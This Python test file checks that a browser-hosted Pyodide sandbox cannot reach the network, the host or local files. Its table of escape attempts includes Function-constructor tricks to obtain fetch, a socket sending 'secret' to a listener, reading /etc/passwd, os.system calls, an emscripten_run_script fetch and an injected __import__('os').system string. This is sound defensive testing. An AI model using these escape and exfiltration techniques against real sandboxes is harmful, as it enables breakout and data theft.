"""Python in the browser has no way out, whatever its code is: it runs what we could think of."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as some
from playwright.sync_api import Browser

from publishing.engine import Bundle
from reporting import door
from reporting.operations import OPERATIONS
from tests.conftest import Once
from tests.privacy import inside
from tests.privacy.elsewhere import Elsewhere, listening
from tests.privacy.inside import Python
from toolchain import node

# What it tries, and how that ends: HERE is an address that hears, PORT its port.
TRIED = {
    "js": ("import js; said = js", "ModuleNotFoundError"),
    "the browser's fetch": ("from js import fetch; said = fetch", "ModuleNotFoundError"),
    "pyodide_js": ("import pyodide_js; said = pyodide_js", "ModuleNotFoundError"),
    "its parts": ("import pyodide_js._api; said = pyodide_js", "ModuleNotFoundError"),
    "a module found by hand": (
        "from _pyodide._importhook import jsfinder; said = jsfinder.jsproxies['js']",
        "KeyError",
    ),
    "run_js": ("from pyodide.code import run_js; said = run_js('1')", "ModuleNotFoundError"),
    "a JavaScript function made of text": (
        "from pyodide.ffi import to_js\n"
        "said = to_js([1]).constructor.constructor('return fetch')()",
        "JsException: EvalError",
    ),
    "the event loop's own function": (
        "from pyodide import webloop\n"
        "said = webloop.scheduleCallback.constructor('return fetch')()",
        "JsException: EvalError",
    ),
    "pyodide.http, later": (
        "from pyodide.http import pyfetch\npyfetch('HERE/pyfetch').send(None)",
        "NameError: name 'AbortController'",
    ),
    "pyodide.http, at once": (
        "from pyodide.http import open_url\nsaid = open_url('HERE/open_url')",
        "NameError: name 'XMLHttpRequest'",
    ),
    "pyodide.http.pyxhr": (
        "from pyodide.http import pyxhr\nsaid = pyxhr.get('HERE/pyxhr')",
        "NameError: name 'XMLHttpRequest'",
    ),
    "micropip": ("import micropip; said = micropip", "ModuleNotFoundError"),
    "socket": (
        "import socket; said = socket.create_connection(('127.0.0.1', PORT), 2)",
        "OSError",
    ),
    "a datagram": (
        "import socket\n"
        "it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "said = it.sendto(b'secret', ('127.0.0.1', PORT))",
        "OSError",
    ),
    "urllib": (
        "import urllib.request; said = urllib.request.urlopen('HERE/urllib')",
        "URLError",
    ),
    "http.client": (
        "import http.client\n"
        "it = http.client.HTTPConnection('127.0.0.1', PORT)\nit.request('GET', '/http')",
        "OSError",
    ),
    "asyncio": (
        "import asyncio\nasyncio.open_connection('127.0.0.1', PORT).send(None)",
        ("NotImplementedError", "OSError", "AttributeError", "RuntimeError"),
    ),
    "a program": ("import subprocess; said = subprocess.run(['ls'])", "OSError"),
    "a shell": ("import os; said = os.system('ls') if os.system('ls') >= 0 else None", None),
    "a file of the machine": ("said = open('/etc/passwd').read()", "FileNotFoundError"),
    "a browser": ("import webbrowser; webbrowser.open('HERE/browser')", "ModuleNotFoundError"),
}


@pytest.fixture(scope="module")
def outside() -> Iterator[Elsewhere]:
    with listening() as elsewhere:
        yield elsewhere


@pytest.fixture(scope="module")
def python(browser: Browser, once: Once, bundle: Bundle) -> Iterator[Python]:
    """One Python for all that is tried."""

    def make(folder: Path) -> None:
        inside.make(folder, bundle, node.packages())

    with inside.started(browser, once("inside", make)) as visit:
        yield visit


@pytest.mark.parametrize("name", TRIED)
def test_python_finds_no_way_out(name: str, python: Python, outside: Elsewhere) -> None:
    code, ends = TRIED[name]
    code = code.replace("HERE", outside.url).replace("PORT", str(outside.port))
    told = python.ready().run(code)
    assert told is None if ends is None else str(told).startswith(ends), told
    assert outside.requests == []
    assert python.host.log == []


@pytest.mark.long
def test_python_that_has_emscripten_run_a_script_ends(python: Python, outside: Elsewhere) -> None:
    run = "import ctypes; ctypes.CDLL(None).emscripten_run_script(b'%s')"
    told = python.ready().run(run % f'fetch("{outside.url}/ctypes")')
    assert told == "EngineFailure: broken"
    assert outside.requests == []
    assert python.host.strays == []


def test_python_runs_what_it_is_told_or_none_of_this_would_prove_anything(python: Python) -> None:
    assert python.ready().run("import sys; said = sys.platform") == "emscripten"
    assert python.run("from urllib.parse import quote; said = quote('é')") == "%C3%A9"


@given(some.text() | some.sampled_from(dir(door) + dir(object)))
@example("__class__")
@example("reporting.door.call")
@example("__import__('os').system('ls')")
def test_the_door_carries_out_its_operations_and_nothing_else(operation: str) -> None:
    if operation in OPERATIONS:
        return
    answer = json.loads(door.call(json.dumps({"operation": operation, "instrument": "{}"})))
    assert answer["ok"] is False
    assert [problem["code"] for problem in answer["problems"]] == ["not-understood"]


@given(some.recursive(some.none() | some.text() | some.integers(), some.lists))
def test_the_door_takes_no_operation_that_is_no_name(operation: object) -> None:
    if isinstance(operation, str) and operation in OPERATIONS:
        return
    assert json.loads(door.call(json.dumps({"operation": operation})))["ok"] is False
